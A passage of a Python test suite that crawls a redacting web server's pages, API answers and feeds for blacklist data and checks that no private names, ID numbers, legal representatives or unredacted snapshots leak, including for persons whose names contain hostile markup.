            if data.get("entity_type") == "person" and len(data["entity_name"]) > 1:
                persons.add(data["entity_name"])
    return persons, representatives


def redacted_pages(redacting: TestClient) -> Iterator[tuple[str, Any]]:
    """Every page, API answer and feed of the Xiamen and blacklist data, entities reached
    through the list pages' own links."""
    starts = [
        "/",
        "/changes?baseline=1&per_page=200",
        "/changes.atom?baseline=1",
        "/api/events?baseline=1&per_page=500",
        f"/feeds/{SUBSCRIPTION}.atom",
        "/search?q=%E5%8E%A6%E9%97%A8",
        "/api/search?q=%E5%8E%A6%E9%97%A8",
        *(f"/lists/{lst}?status=all" for lst in LISTS),
        *(f"/api/lists/{lst}/entries?status=all&per_page=500" for lst in LISTS),
        *(f"/lists/{lst}.csv?status=all" for lst in LISTS),
    ]
    entities: set[str] = set()
    for path in starts:
        answer = redacting.get(path)
        yield path, answer
        entities |= set(re.findall(r'href="(/entities/[^"?#]+)"', answer.text))
        entities |= {f"/entities/{e}" for e in re.findall(r'"entity_id":\s*"([^"]+)"', answer.text)}
    for path in sorted(entities):
        yield path, redacting.get(path)
        yield (
            path.replace("/entities/", "/api/entities/"),
            redacting.get(path.replace("/entities/", "/api/entities/")),
        )


def test_a_redacting_server_leaks_nothing_of_persons_with_hostile_names(
    hostile_site: HostileSite,
) -> None:
    """Persons whose names are now hostile (markup, controls), their ID numbers, every legal
    representative, the subscription's feed and the unredacted snapshots: nothing private on
    any page, API answer or feed of a redacting server."""
    app = create_app(
        database_url=hostile_site.url, snapshots_dir=hostile_site.snapshots, redact=True
    )
    redacting = TestClient(app, raise_server_exceptions=False)
    persons, representatives = private(hostile_site.url)
    hostile_persons = {h.value for h in HOSTILE} & persons
    assert len(hostile_persons) > 5 and representatives
    found: dict[str, list[str]] = {"ids": [], "persons": [], "hostile": [], "reps": []}
    pages = 0
    for path, answer in redacted_pages(redacting):
        assert answer.status_code == 200, (path, answer.status_code)
        pages += 1
        shown = html.unescape(answer.content.decode("utf-8", "replace"))
        shown += json.dumps(answer.json(), ensure_ascii=False) if path.startswith("/api/") else ""
        found["ids"] += [f"{path}: {m}" for m in MASKED_ID.findall(shown)]
        found["persons"] += [f"{path}: {n}" for n in persons - hostile_persons if n in shown]
        found["hostile"] += [f"{path}: {n[:20]}" for n in hostile_persons if n in shown]
        found["reps"] += [f"{path}: {n}" for n in representatives if n in shown]
    refused = [
        redacting.get(f"/snapshots/{fmt}/{lst}.{fmt}").status_code
        for fmt in ("csv", "xlsx", "jsonl")
        for lst in LISTS[:2]
    ]
    checks = {
        "redacting: masked ID numbers": found["ids"],
        **(
            {"redacting: persons' full names": found["persons"]}
            if persons - hostile_persons
            else {}
        ),
        "redacting: persons with hostile names": found["hostile"],
        "redacting: legal representatives": found["reps"],
        "redacting: unredacted snapshot files": [str(s) for s in refused if s != 403],
    }
    for label, leaks in checks.items():
        tried = len(refused) if "snapshot" in label else pages
        tally(
            "input",
            label,
            expected="nothing shown",
            seen="nothing shown" if not leaks else f"{len(leaks)} leaks",
            tried=tried,
            lost=len(leaks),
        )
    assert not any(checks.values()), {k: v[:5] for k, v in checks.items() if v}
    assert pages > 30, pages
